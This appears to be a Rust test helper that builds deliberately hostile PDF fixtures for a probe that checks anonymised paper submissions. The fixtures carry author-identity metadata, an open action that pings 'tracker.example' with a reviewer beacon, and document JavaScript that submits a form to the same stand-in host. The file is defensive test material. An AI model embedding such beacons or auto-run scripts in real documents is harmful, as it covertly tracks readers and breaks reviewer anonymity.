//! Test-only builder of the probe's hostile PDFs with `pdf-writer`: a compliant three-page
//! paper plus, as chosen, author identity in Info and XMP, an open action (URI beacon chained
//! to JavaScript), document JavaScript, a page action, an embedded file with a file-attachment
//! annotation, an external and an internal link, and bookmarks.
#![allow(clippy::unwrap_used, clippy::expect_used)]

use pdf_writer::{Content, Finish, Name, Pdf, Rect, Ref, Str, TextStr};

const FILLER: &str = "The adaptive solver integrates the latent trajectory with a stable step size";

/// What the hostile parts of a test document contain.
#[derive(Default, Clone, Copy)]
pub(super) struct Hostile {
    pub(super) info: bool,
    pub(super) xmp: bool,
    pub(super) open_action: bool,
    pub(super) document_js: bool,
    pub(super) page_actions: bool,
    pub(super) embedded_file: bool,
    pub(super) links: bool,
    pub(super) outline: bool,
}

impl Hostile {
    pub(super) fn all() -> Hostile {
        Hostile {
            info: true,
            xmp: true,
            open_action: true,
            document_js: true,
            page_actions: true,
            embedded_file: true,
            links: true,
            outline: true,
        }
    }
}

/// Lines of one page: (x, y from top, size, text).
fn page_lines(index: usize, count: usize) -> Vec<(f32, f32, f32, String)> {
    let mut lines = Vec::new();
    if index == 0 {
        lines.push((200.0, 110.0, 17.0, "A Study of Stable Solvers".to_string()));
        lines.push((260.0, 190.0, 10.0, "Anonymous Author(s)".to_string()));
    }
    let body = if index + 1 == count { 20 } else { 50 };
    for i in 0..body {
        let y = 120.0 + 12.0 * i as f32;
        lines.push((108.0, y, 10.0, FILLER.to_string()));
        lines.push((95.0, y, 6.0, (index * 50 + i + 1).to_string()));
    }
    if index + 1 == count {
        lines.push((108.0, 380.0, 12.0, "References".to_string()));
        lines.push((
            108.0,
            400.0,
            9.0,
            "[1] A. Okafor. Neural solvers. 2019.".to_string(),
        ));
    }
    lines.push((303.0, 750.0, 10.0, (index + 1).to_string()));
    lines
}

/// A compliant three-page paper (two of content), with the chosen hostile parts.
pub(super) fn paper(h: Hostile) -> Vec<u8> {
    let pages: usize = 3;
    let mut pdf = Pdf::new();
    let catalog = Ref::new(1);
    let tree = Ref::new(2);
    let font = Ref::new(3);
    let page_ids: Vec<Ref> = (0..pages as i32).map(|i| Ref::new(10 + 2 * i)).collect();
    let content_ids: Vec<Ref> = (0..pages as i32).map(|i| Ref::new(11 + 2 * i)).collect();
    let (info, xmp, page_xmp) = (Ref::new(40), Ref::new(41), Ref::new(42));
    let (uri_action, js_action, doc_js, js_names) =
        (Ref::new(43), Ref::new(44), Ref::new(45), Ref::new(46));
    let (filespec, file, attachment) = (Ref::new(47), Ref::new(48), Ref::new(49));
    let (external_link, internal_link) = (Ref::new(50), Ref::new(51));
    let (outline, first_item, second_item) = (Ref::new(52), Ref::new(53), Ref::new(54));

    {
        let mut cat = pdf.catalog(catalog);
        cat.pages(tree);
        if h.xmp {
            cat.metadata(xmp);
        }
        if h.open_action {
            cat.pair(Name(b"OpenAction"), uri_action);
        }
        if h.outline {
            cat.outlines(outline);
        }
        if h.document_js || h.embedded_file {
            let mut names = cat.insert(Name(b"Names")).dict();
            if h.document_js {
                names.pair(Name(b"JavaScript"), js_names);
            }
            if h.embedded_file {
                names
                    .insert(Name(b"EmbeddedFiles"))
                    .dict()
                    .insert(Name(b"Names"))
                    .array()
                    .item(Str(b"notes.txt"))
                    .item(filespec);
            }
        }
    }
    pdf.pages(tree)
        .kids(page_ids.iter().copied())
        .count(pages as i32);
    pdf.type1_font(font)
        .base_font(Name(b"Helvetica"))
        .encoding_predefined(Name(b"WinAnsiEncoding"));
    for i in 0..pages {
        let mut p = pdf.page(page_ids[i]);
        p.media_box(Rect::new(0.0, 0.0, 612.0, 792.0));
        p.parent(tree);
        p.contents(content_ids[i]);
        p.resources().fonts().pair(Name(b"F1"), font);
        if i == 0 {
            if h.xmp {
                p.pair(Name(b"Metadata"), page_xmp);
            }
            if h.page_actions {
                p.insert(Name(b"AA")).dict().pair(Name(b"O"), js_action);
            }
            let mut annots = Vec::new();
            if h.embedded_file {
                annots.push(attachment);
            }
            if h.links {
                annots.push(external_link);
                annots.push(internal_link);
            }
            if !annots.is_empty() {
                p.insert(Name(b"Annots")).array().items(annots);
            }
        }
        p.finish();
        let mut content = Content::new();
        for (x, y, size, text) in page_lines(i, pages) {
            content.begin_text();
            content.set_font(Name(b"F1"), size);
            content.set_text_matrix([1.0, 0.0, 0.0, 1.0, x, 792.0 - y]);
            content.show(Str(text.as_bytes()));
            content.end_text();
        }
        pdf.stream(content_ids[i], &content.finish());
    }
    if h.info {
        pdf.document_info(info)
            .author(TextStr("Zoë Müller"))
            .creator(TextStr("zoe.mueller@example.org"))
            .producer(TextStr("Word for Zoe Mueller"))
            .subject(TextStr("Submission by Zoe Mueller"))
            .keywords(TextStr("mueller-lab"));
    }
    if h.xmp {
        let packet = b"<x:xmpmeta xmlns:x='adobe:ns:meta/'><rdf:RDF xmlns:rdf='http://www.w3.org/1999/02/22-rdf-syntax-ns#'><rdf:Description xmlns:dc='http://purl.org/dc/elements/1.1/'><dc:creator><rdf:Seq><rdf:li>Zoe Mueller</rdf:li></rdf:Seq></dc:creator></rdf:Description></rdf:RDF></x:xmpmeta>";
        pdf.metadata(xmp, packet);
        pdf.metadata(page_xmp, packet);
    }
    if h.open_action || h.page_actions {
        let mut uri = pdf.indirect(uri_action).dict();
        uri.pair(Name(b"Type"), Name(b"Action"));
        uri.pair(Name(b"S"), Name(b"URI"));
        uri.pair(
            Name(b"URI"),
            Str(b"https://tracker.example/beacon?who=reviewer"),
        );
        uri.pair(Name(b"Next"), js_action);
        uri.finish();
        let mut js = pdf.indirect(js_action).dict();
        js.pair(Name(b"S"), Name(b"JavaScript"));
        js.pair(Name(b"JS"), Str(b"app.alert('hello from zoe.mueller')"));
        js.finish();
    }
    if h.document_js {
        pdf.indirect(js_names)
            .dict()
            .insert(Name(b"Names"))
            .array()
            .item(Str(b"init"))
            .item(doc_js);
        let mut js = pdf.indirect(doc_js).dict();
        js.pair(Name(b"S"), Name(b"JavaScript"));
        js.pair(
            Name(b"JS"),
            Str(b"this.submitForm('https://tracker.example/js')"),
        );
        js.finish();
    }
    if h.embedded_file {
        let mut spec = pdf.indirect(filespec).dict();
        spec.pair(Name(b"Type"), Name(b"Filespec"));
        spec.pair(Name(b"F"), Str(b"notes.txt"));
        spec.insert(Name(b"EF")).dict().pair(Name(b"F"), file);
        spec.finish();
        let mut stream = pdf.stream(file, b"Draft notes by Zoe Mueller");
        stream.pair(Name(b"Type"), Name(b"EmbeddedFile"));
        stream.finish();
        let mut annot = pdf.indirect(attachment).dict();
        annot.pair(Name(b"Type"), Name(b"Annot"));
        annot.pair(Name(b"Subtype"), Name(b"FileAttachment"));
        annot.pair(Name(b"Rect"), Rect::new(10.0, 10.0, 30.0, 30.0));
        annot.pair(Name(b"FS"), filespec);
        annot.finish();
    }
    if h.links {
        let mut link = pdf.indirect(external_link).dict();
        link.pair(Name(b"Type"), Name(b"Annot"));
        link.pair(Name(b"Subtype"), Name(b"Link"));
        link.pair(Name(b"Rect"), Rect::new(108.0, 600.0, 300.0, 612.0));
        let mut action = link.insert(Name(b"A")).dict();
        action.pair(Name(b"S"), Name(b"URI"));
        action.pair(Name(b"URI"), Str(b"https://tracker.example/link"));
        action.finish();
        link.finish();
        let mut inner = pdf.indirect(internal_link).dict();
        inner.pair(Name(b"Type"), Name(b"Annot"));
        inner.pair(Name(b"Subtype"), Name(b"Link"));
        inner.pair(Name(b"Rect"), Rect::new(108.0, 500.0, 300.0, 512.0));
        let mut go = inner.insert(Name(b"A")).dict();
        go.pair(Name(b"S"), Name(b"GoTo"));
        go.insert(Name(b"D"))
            .array()
            .item(page_ids[2])
            .item(Name(b"Fit"));
        go.finish();
        inner.finish();
    }
    if h.outline {
        let mut o = pdf.indirect(outline).dict();
        o.pair(Name(b"Type"), Name(b"Outlines"));
        o.pair(Name(b"First"), first_item);
        o.pair(Name(b"Last"), second_item);
        o.pair(Name(b"Count"), 2);
        o.finish();
        for (id, title, next, page) in [
            (first_item, "Introduction", Some(second_item), page_ids[0]),
            (second_item, "References", None, page_ids[2]),
        ] {
            let mut item = pdf.indirect(id).dict();
            item.pair(Name(b"Title"), TextStr(title));
            item.pair(Name(b"Parent"), outline);
            if let Some(next) = next {
                item.pair(Name(b"Next"), next);
            } else {
                item.pair(Name(b"Prev"), first_item);
            }
            item.insert(Name(b"Dest"))
                .array()
                .item(page)
                .item(Name(b"Fit"));
            item.finish();
        }
    }
    pdf.finish()
}
